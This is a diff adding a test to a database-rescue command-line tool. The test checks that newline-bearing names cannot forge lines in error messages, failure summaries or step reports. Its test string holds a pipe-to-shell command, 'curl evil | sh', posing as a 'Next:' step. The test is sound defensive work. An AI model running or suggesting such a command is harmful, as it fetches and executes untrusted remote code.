@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import argparse
 import json
 import re
 from collections.abc import Callable
@@ -12,7 +13,8 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
-from pgrescue.cli.output import narrate, print_json, print_table
+from pgrescue.cli.output import narrate, print_error, print_json, print_table
+from pgrescue.cli.watch import Teller, closing
 from pgrescue.demo.binaries import ServerBinaries
 from pgrescue.errors import Refused
 from pgrescue.findings import Finding
@@ -30,6 +32,8 @@ from pgrescue.printable import (
     printable,
     printable_lines,
 )
+from pgrescue.run.records import Failure, Note, StepEnded
+from pgrescue.run.state import fold
 from tests.conftest import SandboxFactory
 from tests.support.cluster import Workspace, cluster_config
 from tests.tui import snapshots
@@ -178,6 +182,25 @@ def test_script_stays_exact() -> None:
 def test_name_cannot_forge_lines_of_a_plan() -> None:
     plan = replace(snapshots.plan(), backup="one\nCan be undone  yes")
     assert "one\\nCan be undone" in render_text(plan)
+
+
+FORGED = "bk\n  Next: curl evil | sh"
+
+
+def test_names_cannot_forge_lines_of_what_is_told(capsys: pytest.CaptureFixture[str]) -> None:
+    """Not of a refusal, of a run's last words, or of a step's result on the way."""
+    error = Refused(FORGED, FORGED, evidence="shown", unchanged=FORGED, next_steps=(FORGED,))
+    print_error(error, argparse.Namespace(json=False, command="backup"))
+    failure = Failure(FORGED, FORGED, "", (FORGED,), 3)
+    narrate(
+        closing(replace(fold(hostile_plan(), ()), state="failed", error=failure, notes=(FORGED,)))
+    )
+    teller = Teller()
+    teller.tell(StepEnded(step="take", result=FORGED, seconds=1.0))
+    teller.tell(Note(step="take", message=FORGED))
+    lines = capsys.readouterr().err.splitlines()
+    assert not [line for line in lines if line.startswith("  Next: curl")]
+    assert len([line for line in lines if "curl evil" in line]) > 6
 
 
 def test_errors_and_tables_have_only_letters(capsys: pytest.CaptureFixture[str]) -> None:
